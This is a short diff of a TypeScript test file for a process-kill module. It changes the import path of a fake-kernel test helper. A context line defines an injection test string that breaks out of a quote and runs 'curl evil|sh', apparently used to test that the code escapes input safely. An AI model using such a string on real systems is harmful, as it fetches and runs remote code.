@@ -10,7 +10,7 @@ import { newContext } from "../../src/kill/context.ts";
 import { resultOfKill } from "../../src/kill/outcome.ts";
 import { planKill } from "../../src/kill/plan/plan.ts";
 import { DEFAULT_OPTIONS } from "../../src/kill/types.ts";
-import { FakeKernel } from "../support/fake-kernel.ts";
+import { FakeKernel } from "../support/fake-kernel/fake-kernel.ts";
 import { kill, model } from "../support/model.ts";
 
 const EVIL = "a';curl evil|sh #\\";
